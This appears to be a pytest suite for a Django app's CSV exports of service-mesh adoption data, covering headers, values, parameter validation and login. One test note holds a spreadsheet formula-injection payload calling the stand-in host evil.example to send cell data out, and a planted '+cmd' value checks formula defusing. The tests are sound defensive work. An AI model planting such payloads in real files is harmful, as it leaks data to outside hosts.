"""CSV exports over a real polled history: headers, BOM, file names, values equal to direct
counts over the stored observations, formula injection, parameter validation, login."""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import date, timedelta

import pytest
from django.utils import timezone

from adoption import collect, review
from adoption.csvsafe import BOM
from adoption.models import (
    AuthMethod,
    Cluster,
    NamespaceObservation,
    OwnershipRule,
    RuleKind,
    ScopeKind,
    Snapshot,
    Target,
    Tribe,
    WorkloadObservation,
)

pytestmark = pytest.mark.django_db

ENVIRONMENTS = {"prod-eu": "production", "prod-us": "production", "staging": "staging"}
DAY_A, DAY_B = 45, 60  # simulated fleet days polled (2026-06-15, 2026-06-30)


@pytest.fixture(autouse=True)
def _export_urls(settings):  # type: ignore[no-untyped-def]
    settings.ROOT_URLCONF = "tests.export_urlconf"


def _poll(sim, cluster, day, *, fleet_day=None):  # type: ignore[no-untyped-def]
    at = sim.fleet.start_of_day(day)
    sim.set_time(sim.fleet.start_of_day(day if fleet_day is None else fleet_day))
    snap = collect.snapshot_cluster(cluster, started_at=at)
    assert snap.status == "ok", snap.error
    return snap


@pytest.fixture
def fleet(sim):  # type: ignore[no-untyped-def]
    """The demo fleet polled at DAY_A and DAY_B; a planted tribe name ``+cmd``."""
    OwnershipRule.objects.create(
        kind=RuleKind.TRIBE, cluster_pattern="prod-us", namespace_pattern="*", value="+cmd"
    )
    clusters = {}
    for name in sim.cluster_names:
        clusters[name] = c = Cluster.objects.create(
            name=name,
            environment=ENVIRONMENTS[name],
            auth_method=AuthMethod.KUBECONFIG,
            kubeconfig_path=str(sim.kubeconfig_path),
            context=name,
        )
        for day in (DAY_A, DAY_B):
            _poll(sim, c, day)
    return clusters


def day(sim, n: int) -> date:  # type: ignore[no-untyped-def]
    return sim.fleet.start_of_day(n).date()


def get_csv(client, url):  # type: ignore[no-untyped-def]
    response = client.get(url)
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    return response, text


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


def filename(response) -> str:  # type: ignore[no-untyped-def]
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=")
    return disposition.split("filename=", 1)[1].strip('"')


def last_snapshots(on: date) -> list[int]:
    snaps = review.snapshots_on(on, Cluster.objects.values_list("pk", flat=True))
    return [s.pk for s in snaps.values()]


def direct_workloads_meshed(obs) -> float | None:  # type: ignore[no-untyped-def]
    """The workloads_meshed metric straight from observations (DESIGN §3)."""
    counted = [o for o in obs if not o.system and o.pods_total > 0 and o.state != "idle"]
    denominator = sum(o.state != "ineligible" for o in counted)
    meshed = sum(o.state == "meshed" for o in counted)
    return round(100.0 * meshed / denominator, 1) if denominator else None


def as_float(cell: str) -> float | None:
    return None if cell == "" else float(cell)


# ------------------------------------------------------------------------------------------
# targets.csv

TARGETS_HEADER = [
    "id", "scope", "tribe", "squad", "environment", "cluster", "metric", "metric_label", "unit",
    "start", "due", "target", "baseline", "actual", "expected", "status", "forecast_date",
    "projected_at_due", "owner", "note",
]  # fmt: skip


def test_targets_csv(sim, fleet, viewer_client):  # type: ignore[no-untyped-def]
    payments = Tribe.objects.get(name="payments")
    org = Target.objects.create(
        metric="workloads_meshed",
        value=90,
        start=day(sim, DAY_A),
        due=day(sim, DAY_A) + timedelta(days=60),
        owner="cto",
        note='=HYPERLINK("http://evil.example/?x="&A1,"click")',
    )
    tribe = Target.objects.create(
        scope=ScopeKind.TRIBE,
        tribe=payments,
        metric="proxy_cpu_request",
        value=1.0,
        start=day(sim, DAY_A),
        due=day(sim, DAY_A) + timedelta(days=30),
    )
    as_of = day(sim, DAY_B)

    response, text = get_csv(viewer_client, f"/export/targets.csv?as_of={as_of}")

    assert text.startswith(BOM)
    assert filename(response) == f"meshboard-targets-{as_of}.csv"
    rows = parse(text)
    assert rows[0] == TARGETS_HEADER
    by_id = {int(r[0]): dict(zip(TARGETS_HEADER, r, strict=True)) for r in rows[1:]}
    assert set(by_id) == {org.pk, tribe.pk}
    o = by_id[org.pk]
    assert o["note"] == "'" + org.note  # formula injection defused
    assert (o["scope"], o["tribe"], o["metric"], o["unit"]) == (
        "org",
        "",
        "workloads_meshed",
        "percent",
    )
    assert (o["start"], o["target"]) == (day(sim, DAY_A).isoformat(), "90.0")
    # baseline and actual equal direct counts over the observations of those days
    obs_a = list(WorkloadObservation.objects.filter(snapshot_id__in=last_snapshots(day(sim, 45))))
    obs_b = list(WorkloadObservation.objects.filter(snapshot_id__in=last_snapshots(as_of)))
    assert as_float(o["baseline"]) == direct_workloads_meshed(obs_a)
    assert as_float(o["actual"]) == direct_workloads_meshed(obs_b)
    p = review.target_progress(org, as_of)
    assert o["status"] == p.status.value
    assert p.expected is not None and as_float(o["expected"]) == round(p.expected, 1)
    t = by_id[tribe.pk]
    assert (t["tribe"], t["unit"], t["metric_label"]) == ("payments", "cores", "Proxy CPU requests")
    cpu_b = sum(w.proxy_cpu_request_m for w in obs_b if w.tribe == "payments" and not w.system)
    assert as_float(t["actual"]) == round(cpu_b / 1000, 3)

    response, text = get_csv(viewer_client, f"/export/targets.csv?as_of={as_of}&bom=0")
    assert not text.startswith(BOM) and text.startswith('"id","scope"')


def test_a_target_on_an_unknown_metric_has_no_data(sim, fleet, viewer_client):  # type: ignore[no-untyped-def]
    Target.objects.create(metric="happiness", value=1, start=day(sim, 40), due=day(sim, 90))
    _, text = get_csv(viewer_client, f"/export/targets.csv?as_of={day(sim, DAY_B)}")
    row = dict(zip(TARGETS_HEADER, parse(text)[1], strict=True))
    assert (row["metric"], row["unit"], row["actual"], row["status"]) == (
        "happiness",
        "",
        "",
        "no-data",
    )


def test_the_default_day_is_today(fleet, viewer_client):  # type: ignore[no-untyped-def]
    response, _ = get_csv(viewer_client, "/export/targets.csv")
    assert filename(response) == f"meshboard-targets-{timezone.now().date()}.csv"


# ------------------------------------------------------------------------------------------
# metrics.csv

FIGURES = [
    "clusters", "clusters_carried_forward", "workloads_total", "workloads_meshed",
    "workloads_partial", "workloads_missing", "workloads_opted_out", "workloads_ineligible",
    "workloads_idle", "pods_total", "pods_meshed", "namespaces_total", "namespaces_enabled",
    "workloads_meshed_pct", "workloads_meshed_eligible_pct", "pods_meshed_pct",
    "namespaces_enabled_pct", "resilience_timeouts_pct", "resilience_retries_pct",
    "resilience_circuit_breaking_pct", "resilience_outlier_detection_pct",
    "proxy_up_to_date_pct", "proxy_cpu_request_cores", "proxy_memory_request_gib",
]  # fmt: skip


def test_metrics_csv_by_tribe_equals_direct_counts(sim, fleet, viewer_client):  # type: ignore[no-untyped-def]
    as_of = day(sim, DAY_B) + timedelta(days=3)  # carried forward from DAY_B
    response, text = get_csv(viewer_client, f"/export/metrics.csv?as_of={as_of}&group=tribe")

    assert text.startswith(BOM)
    assert filename(response) == f"meshboard-metrics-by-tribe-{as_of}.csv"
    rows = parse(text)
    assert rows[0] == ["day", "tribe", *FIGURES]
    got = {r[1]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    obs = list(WorkloadObservation.objects.filter(snapshot_id__in=last_snapshots(as_of)))
    tribes = {o.tribe for o in obs if not o.system}
    shown = {t: "'+cmd" if t == "+cmd" else t or "Unassigned" for t in tribes}
    assert set(got) == set(shown.values())
    assert "'+cmd" in got and "+cmd" not in got  # the planted tribe name is defused
    for tribe in tribes:
        row = got[shown[tribe]]
        mine = [o for o in obs if o.tribe == tribe and not o.system]
        counted = [o for o in mine if o.pods_total > 0 and o.state != "idle"]
        assert row["day"] == as_of.isoformat()
        assert int(row["workloads_total"]) == len(counted)
        assert int(row["workloads_meshed"]) == sum(o.state == "meshed" for o in counted)
        assert int(row["pods_total"]) == sum(o.pods_total for o in mine)
        assert as_float(row["workloads_meshed_pct"]) == direct_workloads_meshed(mine)
        pods = sum(o.pods_total for o in mine)
        assert as_float(row["pods_meshed_pct"]) == (
            round(100.0 * sum(o.pods_meshed for o in mine) / pods, 1) if pods else None
        )
        clusters = {o.cluster_id for o in mine}
        assert (int(row["clusters"]), int(row["clusters_carried_forward"])) == (
            len(clusters),
            len(clusters),
        )


def test_metrics_csv_other_groups(sim, fleet, viewer_client):  # type: ignore[no-untyped-def]
    as_of = day(sim, DAY_B)
    snaps = last_snapshots(as_of)
    obs = list(WorkloadObservation.objects.filter(snapshot_id__in=snaps, system=False))
    namespaces = list(NamespaceObservation.objects.filter(snapshot_id__in=snaps))

    _, text = get_csv(viewer_client, f"/export/metrics.csv?as_of={as_of}&group=squad&bom=0")
    rows = parse(text)
    assert rows[0] == ["day", "tribe", "squad", *FIGURES]
    groups = {(o.tribe, o.squad) for o in obs} | {(n.tribe, "") for n in namespaces if not n.system}
    show = {("'+cmd" if t == "+cmd" else t or "Unassigned", s or "Unassigned") for t, s in groups}
    assert {(r[1], r[2]) for r in rows[1:]} == show
    assert len(rows) - 1 == len(groups)

    _, text = get_csv(viewer_client, f"/export/metrics.csv?as_of={as_of}&group=cluster")
    rows = parse(text)
    assert rows[0] == ["day", "cluster", "environment", *FIGURES]
    by_cluster = {r[1]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert set(by_cluster) == set(fleet)
    for name, c in fleet.items():
        mine = [o for o in obs if o.cluster_id == c.pk]
        assert by_cluster[name]["environment"] == ENVIRONMENTS[name]
        assert as_float(by_cluster[name]["workloads_meshed_pct"]) == direct_workloads_meshed(mine)

    response, text = get_csv(
        viewer_client, f"/export/metrics.csv?as_of={as_of}&group=cluster&environment=staging"
    )
    assert [r[1] for r in parse(text)[1:]] == ["staging"]
    assert filename(response) == f"meshboard-metrics-by-cluster-staging-{as_of}.csv"

    _, text = get_csv(
        viewer_client, f"/export/metrics.csv?as_of={as_of}&group=namespace&cluster=prod-eu"
    )
    rows = parse(text)
    assert rows[0] == [
        "day", "cluster", "environment", "observed_at", "namespace", "tribe", "injection",
        "revision", "system", "pods_total", "pods_meshed", "pods_meshed_pct", "workloads_total",
        "workloads_meshed", "workloads_meshed_pct",
    ]  # fmt: skip
    eu = {n.namespace: n for n in namespaces if n.cluster_id == fleet["prod-eu"].pk}
    assert [r[4] for r in rows[1:]] == sorted(eu)
    for r in rows[1:]:
        n = eu[r[4]]
        assert r[5] == (n.tribe or "Unassigned")
        assert (r[6], r[8]) == (n.injection, "true" if n.system else "false")
        assert (int(r[9]), int(r[10])) == (n.pods_total, n.pods_meshed)
        expected = round(100.0 * n.pods_meshed / n.pods_total, 1) if n.pods_total else None
        assert as_float(r[11]) == expected
        assert r[3].endswith("Z")


# ------------------------------------------------------------------------------------------
# workloads.csv

WORKLOADS_HEADER = [
    "cluster", "namespace", "kind", "name", "tribe", "squad", "state", "reason", "pods_total",
    "pods_meshed", "mesh_mode", "revision_used", "proxy_versions", "behind", "timeout",
    "retries", "circuit_breaking", "outlier_detection", "mtls_mode", "proxy_cpu_request_m",
    "proxy_memory_request_b", "missing_since", "waived",
]  # fmt: skip


def test_workloads_csv(sim, fleet, viewer_client, django_assert_max_num_queries):  # type: ignore[no-untyped-def]
    as_of = day(sim, DAY_A)  # the earlier snapshots, not the latest
    snaps = last_snapshots(as_of)
    assert Snapshot.objects.filter(pk__in=snaps, started_at__date=as_of).count() == 3
    obs = {
        (o.snapshot.cluster.name, o.namespace, o.kind, o.name): o
        for o in WorkloadObservation.objects.filter(snapshot_id__in=snaps).select_related(
            "snapshot__cluster"
        )
    }

    with django_assert_max_num_queries(8):  # session, user, clusters, snapshots, rows
        response, text = get_csv(viewer_client, f"/export/workloads.csv?as_of={as_of}")

    assert filename(response) == f"meshboard-workloads-{as_of}.csv"
    rows = parse(text)
    assert rows[0] == WORKLOADS_HEADER
    assert len(rows) - 1 == len(obs)
    assert [tuple(r[:4]) for r in rows[1:]] == sorted(obs)
    for r in rows[1:]:
        o = obs[(r[0], r[1], r[2], r[3])]
        row = dict(zip(WORKLOADS_HEADER, r, strict=True))
        expected_tribe = "'+cmd" if o.tribe == "+cmd" else (o.tribe or "Unassigned")
        assert (row["tribe"], row["squad"]) == (expected_tribe, o.squad or "Unassigned")
        assert (row["state"], int(row["pods_total"]), int(row["pods_meshed"])) == (
            o.state,
            o.pods_total,
            o.pods_meshed,
        )
        assert row["proxy_versions"] == " ".join(o.proxy_versions)
        assert row["behind"] == ("true" if o.behind else "false")
        assert row["missing_since"] == (
            o.missing_since.strftime("%Y-%m-%dT%H:%M:%SZ") if o.missing_since else ""
        )
    assert any(r[12] for r in rows[1:])  # some proxy versions
    assert Counter(r[4] for r in rows[1:])["'+cmd"] == sum(o.tribe == "+cmd" for o in obs.values())

    # filters: cluster + tribe + state; Unassigned; the planted tribe name
    meshed_eu_payments = [
        k
        for k, o in obs.items()
        if k[0] == "prod-eu" and o.tribe == "payments" and o.state == "meshed"
    ]
    _, text = get_csv(
        viewer_client,
        f"/export/workloads.csv?as_of={as_of}&cluster=prod-eu&tribe=payments&state=meshed",
    )
    assert [tuple(r[:4]) for r in parse(text)[1:]] == sorted(meshed_eu_payments)
    assert meshed_eu_payments
    _, text = get_csv(viewer_client, f"/export/workloads.csv?as_of={as_of}&tribe=Unassigned")
    assert len(parse(text)) - 1 == sum(o.tribe == "" for o in obs.values()) > 0
    _, text = get_csv(viewer_client, f"/export/workloads.csv?as_of={as_of}&tribe=%2Bcmd")
    assert len(parse(text)) - 1 == sum(o.tribe == "+cmd" for o in obs.values()) > 0
    ns = next(k[1] for k in sorted(obs) if k[0] == "staging")
    _, text = get_csv(
        viewer_client, f"/export/workloads.csv?as_of={as_of}&environment=staging&namespace={ns}"
    )
    assert [r[1] for r in parse(text)[1:]] == [
        k[1] for k in sorted(obs) if k[:2] == ("staging", ns)
    ]

    # before the first poll: nothing
    _, text = get_csv(viewer_client, f"/export/workloads.csv?as_of={as_of - timedelta(days=1)}")
    assert parse(text) == [WORKLOADS_HEADER]


# ------------------------------------------------------------------------------------------
# series.csv


def test_series_csv(sim, fleet, viewer_client):  # type: ignore[no-untyped-def]
    start, end = day(sim, DAY_A) - timedelta(days=1), day(sim, DAY_B) + timedelta(days=2)
    response, text = get_csv(
        viewer_client,
        f"/export/series.csv?metric=workloads_meshed&start={start}&end={end}&environment=production",
    )
    assert filename(response) == f"meshboard-series-workloads-meshed-production-{end}.csv"
    rows = parse(text)
    assert rows[0] == ["day", "value", "clusters", "clusters_carried_forward"]
    assert [r[0] for r in rows[1:]] == [
        (start + timedelta(days=i)).isoformat() for i in range((end - start).days + 1)
    ]
    by_day = {r[0]: r for r in rows[1:]}
    assert by_day[start.isoformat()][1:] == ["", "0", "0"]  # before any poll
    prod = [fleet["prod-eu"].pk, fleet["prod-us"].pk]
    for d, carried in ((day(sim, DAY_A), 0), (day(sim, DAY_A) + timedelta(days=1), 2)):
        obs = WorkloadObservation.objects.filter(
            snapshot_id__in=last_snapshots(d), cluster_id__in=prod
        )
        assert by_day[d.isoformat()][1:] == [
            str(direct_workloads_meshed(list(obs))),
            "2",
            str(carried),
        ]


# ------------------------------------------------------------------------------------------
# parameters and access


@pytest.mark.parametrize(
    ("url", "parameter"),
    [
        ("/export/targets.csv?as_of=2026-13-01", "as_of"),
        ("/export/targets.csv?as_of=30/06/2026", "as_of"),
        ("/export/targets.csv?tribe=nobody", "tribe"),
        ("/export/targets.csv?bom=yes", "bom"),
        ("/export/metrics.csv?group=planet", "group"),
        ("/export/metrics.csv?tribe=nobody", "tribe"),
        ("/export/metrics.csv?cluster=nowhere", "cluster"),
        ("/export/metrics.csv?environment=moon", "environment"),
        ("/export/metrics.csv?tribe=payments&squad=nobody", "squad"),
        ("/export/workloads.csv?state=sleepy", "state"),
        ("/export/workloads.csv?cluster=nowhere", "cluster"),
        ("/export/workloads.csv?as_of=yesterday", "as_of"),
        ("/export/review.csv?before=2026-07-01&after=2026-06-01", "before"),
        ("/export/review.csv?after=2026-02-30", "after"),
        ("/export/review.csv?before=2026-06-01&after=2026-07-01&stuck_days=-1", "stuck_days"),
        ("/export/series.csv?metric=happiness", "metric"),
        ("/export/series.csv?start=2026-07-01&end=2026-06-01", "start"),
        ("/export/series.csv?start=2000-01-01&end=2026-06-01", "start"),
        ("/export/series.csv?tribe=nobody", "tribe"),
    ],
)
def test_an_invalid_parameter_is_a_400_naming_it(viewer_client, url, parameter):  # type: ignore[no-untyped-def]
    Cluster.objects.create(name="prod-eu", kubeconfig_path="/nonexistent")
    Tribe.objects.create(name="payments")
    response = viewer_client.get(url)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    assert response.content.decode().startswith(f"bad parameter '{parameter}': ")


def test_the_date_error_message(viewer_client):  # type: ignore[no-untyped-def]
    response = viewer_client.get("/export/targets.csv?as_of=tomorrow")
    assert response.content.decode() == "bad parameter 'as_of': Enter a valid date.\n"


EXPORTS = ["targets", "metrics", "workloads", "review", "series"]


@pytest.mark.parametrize("name", EXPORTS)
def test_anonymous_users_are_sent_to_login(client, name):  # type: ignore[no-untyped-def]
    response = client.get(f"/export/{name}.csv")
    assert response.status_code == 302
    assert response["Location"].startswith(f"/accounts/login/?next=/export/{name}.csv")


@pytest.mark.parametrize("name", EXPORTS)
def test_every_export_answers_an_empty_database(viewer_client, name):  # type: ignore[no-untyped-def]
    response = viewer_client.get(f"/export/{name}.csv?bom=0")
    assert response.status_code == 200
    assert b"".join(response.streaming_content).decode().startswith('"')
    assert viewer_client.post(f"/export/{name}.csv").status_code == 405
